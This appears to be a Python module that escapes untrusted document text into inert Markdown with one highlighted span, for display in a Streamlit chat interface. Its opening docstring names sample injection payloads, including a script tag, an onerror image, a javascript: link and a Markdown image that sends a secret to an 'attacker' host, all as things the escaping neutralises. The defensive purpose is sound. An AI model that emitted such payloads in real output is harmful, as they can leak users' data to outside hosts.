"""Turn untrusted document text into inert Markdown, with one span highlighted.

The chat page shows passages, answers and whole documents through Streamlit's
Markdown renderer, because that is the only safe way it offers to colour part of a
text. Document text is untrusted (an uploaded file can contain ``<script>``,
``<img onerror=...>``, ``![x](http://attacker/?q=secret)`` or ``[click](javascript:...)``),
so every ASCII punctuation character of it is backslash-escaped first
(:func:`escape_markdown`). In CommonMark an escaped punctuation character is always
a literal character: no HTML, link, image, emphasis, heading, list, code, entity,
``$`` maths or ``:colour[...]`` directive can start from document text. Bare URLs
(which GFM links after parsing, escapes or not) get an invisible word joiner.
Only after escaping do we add our own markup: a ``:yellow-background[...]``
directive around the cited span (never HTML, so the page needs no
``unsafe_allow_html``).

This module produces strings only; it does not import Streamlit or render anything.
"""

from __future__ import annotations

import re
import string
from dataclasses import dataclass

HIGHLIGHT = "yellow-background"

_PUNCTUATION = frozenset(string.punctuation)  # exactly the ASCII punctuation CommonMark escapes
WORD_JOINER = "\u2060"  # invisible, and not a character an autolink may start after
# GFM turns bare URLs and e-mail addresses into links *after* parsing, so escapes do
# not stop it; an invisible word joiner inside "http:", "www." and "a@b" does.
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=\bwww)(?=\.)|(?<=@)", re.I)
_LINE_BREAK = re.compile(r"(?<!\n)\n(?!\n)")
_WORDS = re.compile(r"\s*\S+")


@dataclass(frozen=True)
class Segments:
    """A text cut in three around a span: ``before + quote + after == text``."""

    before: str
    quote: str
    after: str


def split_span(text: str, start: int, end: int) -> Segments:
    """Cut *text* at ``[start, end)``; offsets are clamped into the text."""
    start = max(0, min(start, len(text)))
    end = max(start, min(end, len(text)))
    return Segments(text[:start], text[start:end], text[end:])


def escape_markdown(text: str) -> str:
    """*text* as Markdown that renders literally: no markup, links, images or autolinks.

    Every ASCII punctuation character is backslash-escaped, and a word joiner
    (U+2060, invisible) breaks bare URLs and e-mail addresses.
    """
    text = _AUTOLINK.sub(WORD_JOINER, text)
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in text)


def _pieces_to_markdown(pieces: list[tuple[str, bool]], style: str) -> str:
    out: list[str] = []
    line_start = True
    for text, marked in pieces:
        for raw in re.split(r"(\n)", text):
            if raw == "\n":
                out.append("\n")
                line_start = True
                continue
            # Leading blanks would turn a line into a code block.
            part = raw.lstrip(" \t") if line_start else raw
            if not part:
                continue
            escaped = escape_markdown(part)
            # A directive cannot span lines, so each marked line gets its own.
            out.append(f":{style}[{escaped}]" if marked and part.strip() else escaped)
            line_start = False
    # A single newline becomes a hard break (Markdown would join the lines);
    # blank lines stay paragraph breaks.
    return _LINE_BREAK.sub("  \n", "".join(out))


def text_markdown(text: str) -> str:
    """Inert Markdown that displays *text* as it is (line breaks kept)."""
    return _pieces_to_markdown([(text, False)], HIGHLIGHT)


def highlight_markdown(text: str, start: int, end: int, style: str = HIGHLIGHT) -> str:
    """Inert Markdown of *text* with ``text[start:end]`` highlighted.

    *style* is a Streamlit colour directive name such as ``orange-background``.
    """
    seg = split_span(text, start, end)
    return _pieces_to_markdown([(seg.before, False), (seg.quote, True), (seg.after, False)], style)


def stream_pieces(text: str) -> list[str]:
    """*text* cut into word-sized pieces (each with its leading space) for streaming.

    ``"".join(stream_pieces(t)) == t`` apart from trailing whitespace, and a
    ``[n]`` marker is never cut in two.
    """
    return _WORDS.findall(text)
